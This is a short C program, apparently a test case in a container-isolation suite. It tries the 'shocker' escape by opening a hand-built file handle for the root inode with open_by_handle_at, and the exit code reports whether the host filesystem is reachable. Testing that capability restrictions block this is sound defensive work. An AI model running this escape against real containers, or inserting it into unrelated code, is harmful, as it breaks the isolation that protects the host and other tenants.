// shows: a handle is opened without a path ("shocker")
// stopped by: capabilities
// outside: root
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <unistd.h>

int main(void) {
    struct { struct file_handle head; unsigned char body[128]; } handle = {0};
    handle.head.handle_bytes = 8;
    handle.head.handle_type = 1;
    *(unsigned *)handle.body = 2;
    int folder = open(getenv("WORKSPACE"), O_RDONLY);
    return open_by_handle_at(folder, &handle.head, O_RDONLY) >= 0 ? 0 : 1;
}
